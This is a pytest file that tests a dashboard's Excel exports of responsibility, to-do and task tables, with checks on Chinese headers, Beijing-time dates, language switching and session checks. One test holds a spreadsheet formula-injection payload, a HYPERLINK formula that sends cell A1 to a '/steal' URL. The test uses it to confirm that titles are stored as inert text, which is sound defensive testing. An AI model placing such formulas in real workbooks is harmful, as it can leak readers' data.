"""The dashboard's tables as Excel workbooks (issue 30, item 4): the responsibility table, the
to-do list and the task list, opened with openpyxl as a reader would, in Chinese by default,
with times in Beijing time and lateness in words."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import datetime
from io import BytesIO

import httpx
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.unit.test_dashboard_edge import TASK, sign_in, web_app

RESPONSIBILITY = {
    "as_of": "2026-06-30T16:00:00+00:00",
    "departments": {
        "JILIN": {"assigned": 3, "acts": 12, "done": 1, "late": 2},
        "MOFCOM": {"assigned": 1, "acts": 2, "done": 0, "late": 0},
        "MIIT": {"assigned": 0, "acts": 0, "done": 0, "late": 0},
    },
}
TODO = {
    "items": [
        {
            "kind": "report_progress",
            "title": "Hydrogen vehicle cluster",
            "due": "2026-07-01T02:30:00+00:00",
            "overdue": True,
            "task_id": "task-hydrogen",
            "action": {"command": "report_progress", "key": "task-hydrogen"},
        }
    ]
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def services(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path == "/v1/tasks":
        return httpx.Response(200, json={"items": [TASK], "next_cursor": None})
    if path == "/v1/todo":
        return httpx.Response(200, json=TODO)
    if path == "/v1/audit/responsibility":
        return httpx.Response(200, json=RESPONSIBILITY)
    return httpx.Response(404, json={"status": 404, "detail": "no such thing"})


@pytest.fixture
async def dashboard() -> AsyncIterator[httpx.AsyncClient]:
    async with web_app(answer=services) as client:
        await sign_in(client, "JILIN", "implementer")
        yield client


async def sheet_of(dashboard: httpx.AsyncClient, path: str, **headers: str) -> Worksheet:
    answer = await dashboard.get(path, headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    assert answer.headers["content-disposition"].startswith("attachment;")
    sheet = load_workbook(BytesIO(answer.content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def rows(sheet: Worksheet) -> list[list[object]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


async def test_the_responsibility_table_in_chinese_with_the_departments_that_did_anything(
    dashboard: httpx.AsyncClient,
) -> None:
    found = rows(await sheet_of(dashboard, "/responsibility.xlsx"))
    assert found[0][0] == "部门" and "逾期" in found[0]
    by_department = {row[0]: row for row in found[1:]}
    assert set(by_department) == {"吉林省人民政府", "商务部"}, "a department with nothing in any column is left out"
    jilin = dict(zip(found[0], by_department["吉林省人民政府"], strict=True))
    assert jilin["逾期"] == 2
    assert jilin[found[0][-1]] == datetime(2026, 7, 1, 0, 0), "as of, in Beijing time"


async def test_the_to_do_list_tells_lateness_in_words_and_its_due_time_in_beijing_time(
    dashboard: httpx.AsyncClient,
) -> None:
    sheet = await sheet_of(dashboard, "/todo.xlsx")
    header, duty = rows(sheet)
    assert header[:3] == ["事项", "涉及", "截止日期"]
    assert duty[1] == "Hydrogen vehicle cluster"
    assert duty[2] == datetime(2026, 7, 1, 10, 30) and sheet.cell(2, 3).number_format == "yyyy-mm-dd hh:mm"
    assert duty[3] == "是" and duty[4] == "task-hydrogen"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref


async def test_the_task_list_in_the_readers_language(dashboard: httpx.AsyncClient) -> None:
    header, task = rows(await sheet_of(dashboard, "/tasks.xlsx", **{"Accept-Language": "en"}))
    assert header[:3] == ["Task", "Title", "Field"]
    assert task[0] == "task-hydrogen" and task[1] == "Hydrogen vehicle cluster" and task[-1] == 40


async def test_a_workbook_needs_a_session() -> None:
    async with web_app(answer=services) as stranger:
        assert (await stranger.get("/tasks.xlsx")).status_code == 303


async def test_a_title_written_as_a_formula_stays_text_in_the_workbook(dashboard: httpx.AsyncClient) -> None:
    """What a department typed is shown, never run: a title that begins as a formula would be a
    live HYPERLINK or DDE call in the reader's Excel."""
    hostile = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"点击查看")'
    TODO["items"][0]["title"] = hostile
    try:
        sheet = await sheet_of(dashboard, "/todo.xlsx")
    finally:
        TODO["items"][0]["title"] = "Hydrogen vehicle cluster"
    cell = sheet.cell(2, 2)
    assert cell.value == hostile and cell.data_type == "s"
